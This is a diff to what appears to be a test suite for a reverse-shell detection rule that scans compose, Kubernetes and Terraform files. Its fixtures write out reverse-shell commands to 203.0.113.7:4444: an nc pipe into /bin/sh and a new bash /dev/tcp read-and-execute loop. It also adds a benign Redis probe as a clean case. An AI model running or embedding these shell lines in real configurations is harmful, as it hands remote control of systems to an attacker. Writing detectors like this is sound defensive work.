@@ -46,6 +46,16 @@ spec:
 			findings: [{ ruleId: id, line: 3, character: 49, endLine: 3, endCharacter: 108, text: 'cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f' }],
 		},
 		{
+			name: 'a read loop running what arrives on a /dev/tcp descriptor',
+			path: 'compose.yaml',
+			source: `services:
+  agent:
+    image: bash:5.2
+    command: ["bash", "-c", "exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read line; do $$line 2>&5 >&5; done"]
+`,
+			findings: [{ ruleId: id, line: 3, character: 29, endLine: 3, endCharacter: 109, text: 'exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read line; do $$line 2>&5 >&5', message: /descriptor 5/ }],
+		},
+		{
 			name: 'ncat --exec, socat exec and a /dev/tcp descriptor in one script',
 			path: 'bootstrap.tf',
 			source: `resource "null_resource" "bootstrap" {
@@ -104,7 +114,7 @@ Resources:
 	],
 	clean: [
 		{
-			name: 'port checks with nc -z and /dev/tcp that run no shell',
+			name: 'port checks and a Redis probe over /dev/tcp that run no shell',
 			path: 'wait.yaml',
 			source: `apiVersion: v1
 kind: Pod
@@ -121,6 +131,11 @@ spec:
   containers:
     - name: api
       image: acme/api:3.2
+    - name: redis
+      image: redis:7.4
+      livenessProbe:
+        exec:
+          command: ["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/6379 && printf 'PING\\r\\n' >&3 && head -c 7 <&3 | grep -q PONG"]
 `,
 		},
 		{
